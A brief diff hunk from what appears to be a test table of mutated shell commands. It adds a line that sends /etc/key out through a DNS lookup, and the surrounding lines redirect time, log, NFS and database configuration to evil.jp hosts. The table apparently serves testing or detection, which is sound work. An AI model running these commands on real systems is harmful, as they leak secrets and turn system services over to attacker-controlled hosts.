@@ -124,6 +124,7 @@ MUTATIONS = (
             "a time server that it writes": "echo 'server time.x.example' >/etc/chrony.conf",
             "a file system of others": "mount -t nfs files.evil.jp:/a /mnt",
             "a database by one option": "psql -h db.evil.jp -f init.sql",
+            "a name with a message in it": "dig $(cat /etc/key).x.example",
             "a server of logs": "echo '*.* @@logs.evil.jp' >/etc/rsyslog.d/x.conf",
         }.items()
     ),
